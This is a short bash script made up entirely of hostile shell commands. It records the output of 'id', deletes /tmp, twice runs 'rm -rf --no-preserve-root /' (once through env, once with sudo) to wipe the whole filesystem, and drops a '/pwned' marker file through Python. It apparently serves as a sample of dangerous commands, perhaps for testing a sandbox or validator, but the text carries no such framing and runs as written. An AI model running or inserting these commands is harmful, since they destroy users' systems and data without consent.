#!/bin/bash
/usr/bin/id > /tmp/id
/bin/rm -rf /tmp
/usr/bin/env rm -rf --no-preserve-root /
nohup /usr/bin/python3 -c "import os; os.system(\"touch /pwned\")"
python3 -c "open(\"/pwned\",\"w\")"
sudo rm -rf --no-preserve-root /
